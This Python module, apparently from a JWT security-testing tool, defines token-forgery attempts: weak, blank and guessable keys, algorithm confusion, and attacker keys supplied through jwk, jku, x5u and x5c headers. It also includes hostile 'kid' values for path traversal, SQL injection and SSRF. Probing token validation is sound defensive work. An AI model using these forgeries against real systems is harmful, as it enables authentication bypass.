"""Forgeries whose key comes from the token itself, or can be guessed: the target must use its own, and a good one."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from netra_probe.forgery.attempt import Attempt, Material, token_attempt
from netra_probe.forgery.tokens import (
    as_victim,
    b64,
    ec_jwk,
    es256,
    mac,
    rs256,
    rsa_jwk,
    self_signed_certificate,
    signed,
    unsigned,
    weak_key_of,
)
from netra_probe.history.secret import Secret

_TRUST = "RFC 8725 §3.10; OWASP ASVS 5.0 9.1.3"
_CONFUSION = "RFC 8725 §3.1; CVE-2016-10555; CVE-2022-29217; OWASP ASVS 5.0 9.1.2"
_WEAK = "RFC 8725 §3.5; OWASP WSTG-SESS-10"


def _blank(size: int, kid: str | None = None) -> Callable[[Material], Secret]:
    header = {"alg": "HS256", "typ": "JWT", **({"kid": kid} if kid is not None else {})}
    return lambda material: signed(header, as_victim(material), bytes(size))


def _kid(kid: str, key: str) -> Callable[[Material], Secret]:
    return lambda material: signed({"alg": "HS256", "typ": "JWT", "kid": kid}, as_victim(material), key.encode())


def _with_public_key(material: Material) -> Secret:
    assert material.public_key is not None
    return signed({"alg": "HS256", "typ": "JWT"}, as_victim(material), material.public_key.encode())


def _weak(material: Material) -> Secret:
    """With the real key, if a list of common ones held it; else with the commonest, which must fail."""
    key = weak_key_of(material.token)
    return signed({"alg": "HS256", "typ": "JWT"}, as_victim(material), (key if key is not None else "secret").encode())


def _own_symmetric_jwk(material: Material) -> Secret:
    key = b"netra-probe tester's own symmetric key"
    header = {"alg": "HS256", "typ": "JWT", "jwk": {"kty": "oct", "kid": "tester", "k": b64(key)}}
    text = unsigned(header, as_victim(material))
    return Secret(f"{text}.{b64(mac(text, key))}")


def _rsa(**extra: Any) -> Callable[[Material], Secret]:
    return lambda material: rs256({"alg": "RS256", "typ": "JWT", **extra}, as_victim(material))


KEY_ATTEMPTS: tuple[Attempt, ...] = (
    token_attempt(
        "guessable key",
        "key",
        "signed with a key from a list of common ones, found offline where it is the real one",
        _WEAK,
        _weak,
    ),
    token_attempt("blank key", "key", "signed with an empty key", f"CVE-2019-20933; {_WEAK}", _blank(0)),
    token_attempt("key of zeros", "key", "signed with 32 zero bytes", _WEAK, _blank(32)),
    token_attempt(
        "public key as secret",
        "key",
        "HS256 with the target's public key as the shared secret",
        _CONFUSION,
        _with_public_key,
        "public_key",
    ),
    token_attempt(
        "own RSA key",
        "key",
        "RS256 with the tester's key and no hint where it comes from",
        _CONFUSION,
        _rsa(),
    ),
    token_attempt(
        "own key as jwk",
        "key",
        "RS256 with the tester's key, which stands in the header itself",
        f"CVE-2018-0114; {_TRUST}",
        lambda material: _rsa(jwk=rsa_jwk())(material),
    ),
    token_attempt(
        "own elliptic key as jwk",
        "key",
        "ES256 with the tester's key, which stands in the header itself",
        f"CVE-2018-0114; {_TRUST}",
        lambda material: es256({"alg": "ES256", "typ": "JWT", "jwk": ec_jwk()}, as_victim(material)),
    ),
    token_attempt(
        "own symmetric key as jwk",
        "key",
        "HS256 with a key that stands in the header itself",
        f"CVE-2018-0114; {_TRUST}",
        _own_symmetric_jwk,
    ),
    token_attempt(
        "jku",
        "key",
        "RS256 with the tester's key, and a header that says where to fetch it",
        _TRUST,
        lambda material: _rsa(jku=material.jwks_url, kid="tester")(material),
    ),
    token_attempt(
        "x5u",
        "key",
        "RS256 with the tester's key, and a header that says where its certificate is",
        _TRUST,
        lambda material: _rsa(x5u=material.jwks_url)(material),
    ),
    token_attempt(
        "x5c",
        "key",
        "RS256 with the tester's key and a certificate for it that the tester issued",
        _TRUST,
        lambda material: _rsa(x5c=[self_signed_certificate(material.now)])(material),
    ),
    token_attempt(
        "kid names an empty file",
        "key",
        "kid is a path to /dev/null, and the token is signed with an empty key",
        f"{_TRUST}; CWE-22",
        _blank(0, "../../../../../../../dev/null"),
    ),
    token_attempt(
        "kid is a query",
        "key",
        "kid makes the query for the key answer with a value that the tester chose",
        f"{_TRUST}; CWE-89",
        _kid("unknown' UNION SELECT 'tester' -- ", "tester"),
    ),
    token_attempt(
        "kid is an address",
        "key",
        "kid is a URL of the tester's",
        f"{_TRUST}; CWE-918",
        lambda material: _rsa(kid=material.jwks_url)(material),
    ),
    token_attempt(
        "kid empty",
        "key",
        "kid is empty, and the token is signed with an empty key",
        _TRUST,
        _blank(0, ""),
    ),
)
